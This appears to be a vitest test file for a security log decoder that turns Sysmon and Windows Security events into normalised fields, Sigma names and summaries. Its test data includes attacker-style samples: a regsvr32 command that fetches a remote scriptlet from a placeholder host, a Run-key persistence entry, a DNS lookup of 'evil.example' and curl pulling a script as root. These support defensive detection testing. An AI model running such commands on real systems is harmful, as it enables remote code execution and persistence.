import {describe, expect, it} from 'vitest';
import {decodeRecord} from '../../../source/core/formats/index.js';
import {
	SECURITY_4625_WINLOGBEAT,
	SYSMON_COMPUTER,
	SYSMON_DNS_FLAT,
	SYSMON_EVTX,
	SYSMON_FLAT,
	SYSMON_MS,
	SYSMON_UTC,
	SYSMON_REGISTRY_SET_EVTX,
	SYSMON_WINLOGBEAT,
} from '../../fixtures/formats/sysmon.js';
import {only} from '../../helpers/lists.js';

function one(value: unknown) {
	const events = decodeRecord({value: JSON.stringify(value), receivedAt: 1});
	return only(events);
}

describe('sysmon shapes', () => {
	it.each([
		['evtx_dump', SYSMON_EVTX],
		['winlogbeat', SYSMON_WINLOGBEAT],
		['flat', SYSMON_FLAT],
	])('%s: process creation with the creator as actor', (_shape, value) => {
		const ev = one(value);
		expect(ev.format).toBe('sysmon');
		expect(ev.category).toBe('Process Creation');
		expect(ev.family).toBe('process');
		expect(ev.host).toBe(SYSMON_COMPUTER);
		expect(ev.os).toBe('windows');
		expect(ev.time).toBe(SYSMON_MS);
		expect(ev.user).toBe('CORP\\alice');
		expect(ev.actor).toMatchObject({
			name: 'cmd.exe',
			image: 'C:\\Windows\\System32\\cmd.exe',
			pid: 4100,
			cmdline: 'cmd.exe /c run.bat',
		});
		expect(ev.target.process).toMatchObject({
			name: 'regsvr32.exe',
			image: 'C:\\Windows\\System32\\regsvr32.exe',
			pid: 4200,
			integrity: 'Medium',
			sha256: 'ABCDEF0123',
			md5: '0123ABCD',
		});
		expect(ev.summary).toBe('cmd.exe -> regsvr32.exe /s /u /i:https://example.test/a.sct scrobj.dll');
		// Sigma-named fields, as strings, plus Computer.
		expect(ev.sigmaFields).toMatchObject({
			Image: 'C:\\Windows\\System32\\regsvr32.exe',
			CommandLine: 'regsvr32.exe /s /u /i:https://example.test/a.sct scrobj.dll',
			ParentImage: 'C:\\Windows\\System32\\cmd.exe',
			ProcessId: '4200',
			OriginalFileName: 'REGSVR32.EXE',
			EventID: '1',
			Computer: SYSMON_COMPUTER,
		});
	});

	it('joins System attributes with "_" (evtx_dump)', () => {
		expect(one(SYSMON_EVTX).sigmaFields).toMatchObject({
			Provider_Name: 'Microsoft-Windows-Sysmon',
			TimeCreated_SystemTime: '2024-05-01T10:00:00.124000Z',
			Execution_ProcessID: '3000',
			Security_UserID: 'S-1-5-18',
			Channel: 'Microsoft-Windows-Sysmon/Operational',
		});
	});

	it('reads EventData as a Data list with #attributes names (registry set)', () => {
		const ev = one(SYSMON_REGISTRY_SET_EVTX);
		expect(ev.category).toBe('Registry Value Modified');
		expect(ev.actor?.name).toBe('reg.exe');
		expect(ev.target.registry).toMatchObject({
			key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
			value: 'updater',
			data: 'C:\\Users\\alice\\u.exe',
		});
		expect(ev.summary).toBe(
			'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater = C:\\Users\\alice\\u.exe',
		);
		expect(ev.sigmaFields?.TargetObject).toBe('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater');
	});

	it('DNS query: answers and summary', () => {
		const ev = one(SYSMON_DNS_FLAT);
		expect(ev.category).toBe('DNS');
		expect(ev.target.dns).toMatchObject({query: 'evil.example', status: 'SUCCESS'});
		expect(ev.summary).toBe('chrome.exe DNS evil.example -> 93.184.216.34');
	});

	it('Security 4625: failed login with type and reason in words; spaces removed from field names', () => {
		const ev = one(SECURITY_4625_WINLOGBEAT);
		expect(ev.category).toBe('Login');
		expect(ev.host).toBe('DC01.corp.example');
		expect(ev.user).toBe('alice');
		expect(ev.target.login).toMatchObject({
			user: 'alice',
			domain: 'CORP',
			type: 'NETWORK',
			result: 'failure',
			reason: 'bad password',
			remoteAddress: '10.0.0.9',
		});
		expect(ev.summary).toBe('Login alice NETWORK from 10.0.0.9: failed (bad password)');
		expect(ev.sigmaFields?.LogonProcess).toBe('NtLmSsp ');
	});

	it.each([
		[3, 'TCPv4 Connection'],
		[5, 'Process Termination'],
		[11, 'File Creation'],
		[23, 'File Deletion'],
		[26, 'File Deletion'],
		[22, 'DNS'],
		[14, 'Registry Key Rename'],
	])('EventID %i -> %s', (id, category) => {
		expect(one({EventID: id, Computer: 'X'}).category).toBe(category);
	});

	it('EventID 12 splits by EventType', () => {
		expect(one({EventID: 12, EventType: 'CreateKey', TargetObject: 'HKLM\\SOFTWARE\\X'}).category).toBe(
			'Registry Key Creation',
		);
		expect(one({EventID: 12, EventType: 'DeleteValue', TargetObject: 'HKLM\\SOFTWARE\\X\\v'}).category).toBe(
			'Registry Value Delete',
		);
	});

	it('network connection: Initiated -> direction', () => {
		const ev = one({
			EventID: 3,
			Image: 'C:\\x\\powershell.exe',
			Initiated: 'true',
			SourceIp: '10.0.0.5',
			SourcePort: '51234',
			DestinationIp: '93.184.216.34',
			DestinationPort: '443',
		});
		expect(ev.target.network).toMatchObject({direction: 'OUTGOING', srcPort: 51234, dstPort: 443});
		expect(ev.summary).toBe('powershell.exe 10.0.0.5:51234 -> 93.184.216.34:443');
	});

	it('events outside the categories are "other" with a subtype', () => {
		const ev = one({EventID: 7, Image: 'C:\\x\\powershell.exe', ImageLoaded: 'C:\\Windows\\System32\\amsi.dll'});
		expect(ev.category).toBe('other');
		expect(ev.subtype).toBe('Image loaded');
		expect(ev.summary).toBe('Image loaded powershell.exe C:\\Windows\\System32\\amsi.dll');
	});
});

describe('sysmon os', () => {
	const linuxProcess = {
		RuleName: '-',
		UtcTime: SYSMON_UTC,
		ProcessGuid: '{6b1c9a2e-0000-0000-0000-000000000001}',
		ProcessId: 31337,
		Image: '/usr/bin/curl',
		CommandLine: 'curl -s https://example.test/x.sh',
		CurrentDirectory: '/root',
		User: 'root',
		ParentProcessId: 31300,
		ParentImage: '/usr/bin/bash',
		ParentCommandLine: '-bash',
	};

	it('Sysmon for Linux (its channel and provider) decodes as linux', () => {
		const evtx = one({
			Event: {
				System: {
					Provider: {'#attributes': {Name: 'Linux-Sysmon'}},
					EventID: 1,
					Channel: 'Linux-Sysmon/Operational',
					Computer: 'web-01',
				},
				EventData: linuxProcess,
			},
		});
		expect(evtx.os).toBe('linux');
		expect(evtx.category).toBe('Process Creation');
		expect(evtx.target.process?.image).toBe('/usr/bin/curl');
		const beat = one({
			'@timestamp': '2024-05-01T10:00:00.124Z',
			winlog: {
				channel: 'Linux-Sysmon/Operational',
				computer_name: 'web-01',
				event_id: '1',
				provider_name: 'Linux-Sysmon',
				event_data: linuxProcess,
			},
		});
		expect(beat.os).toBe('linux');
		expect(one({EventID: 1, Channel: 'Linux-Sysmon/Operational', Computer: 'web-01', ...linuxProcess}).os).toBe(
			'linux',
		);
	});

	it('without a channel or provider, a Unix image path means linux', () => {
		expect(one({EventID: 1, Computer: 'web-01', ...linuxProcess}).os).toBe('linux');
		expect(
			one({
				EventID: 3,
				Image: '/usr/sbin/nginx',
				Initiated: 'false',
				SourceIp: '81.2.69.142',
				SourcePort: '50000',
				DestinationIp: '10.0.5.10',
				DestinationPort: '443',
			}).os,
		).toBe('linux');
	});

	it('Windows Sysmon and Security events stay windows', () => {
		for (const v of [
			SYSMON_EVTX,
			SYSMON_WINLOGBEAT,
			SYSMON_FLAT,
			SYSMON_DNS_FLAT,
			SYSMON_REGISTRY_SET_EVTX,
			SECURITY_4625_WINLOGBEAT,
		])
			expect(one(v).os).toBe('windows');
	});
});
